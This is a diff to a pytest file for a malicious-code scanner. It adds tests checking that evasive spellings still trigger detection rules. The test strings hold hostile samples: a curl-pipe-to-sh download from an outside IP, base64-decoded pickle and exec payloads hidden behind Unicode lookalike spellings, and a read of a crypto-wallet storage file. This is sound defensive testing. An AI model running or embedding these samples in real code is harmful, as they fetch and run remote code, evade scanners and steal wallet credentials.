@@ -401,3 +401,28 @@ def test_the_projects_own_environment_has_no_high_findings() -> None:
     found = [*hook_rules(ctx), *code_rules(ctx), *binary_rules(ctx)]
     high = [(f.rule, f.path) for f in found if f.severity >= Severity.HIGH]
     assert high == []
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        ("import os as o\no.system('curl -s http://203.0.113.9/x | sh')\n", "code-exec-at-import"),
+        (
+            f"from pickle import loads as L\nfrom base64 import b64decode\nL(b64decode('{P64}'))\n",
+            "code-exec-decoded",
+        ),
+        (f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{P64}'))\n", "code-exec-decoded"),
+        (
+            f"import base64\n\U0001d41e\U0001d431\U0001d41e\U0001d41c(base64.b64decode('{P64}'))\n",
+            "code-exec-decoded",
+        ),
+        (
+            "import os\nopen(os.path.expanduser('~/.config/Atomic/Local Storage/leveldb/000003.log')).read()\n",
+            "code-credential-read",
+        ),
+    ],
+    ids=["os-alias", "loads-alias", "fullwidth-exec", "math-bold-exec", "atomic-wallet"],
+)
+def test_the_parse_prefilter_does_not_let_evasions_through(tmp_path: Path, source: str, rule: str) -> None:
+    """Spellings that dodge the substring prefilter's words still get the file parsed."""
+    assert rule in rules(scan(tmp_path, {"m.py": source}))
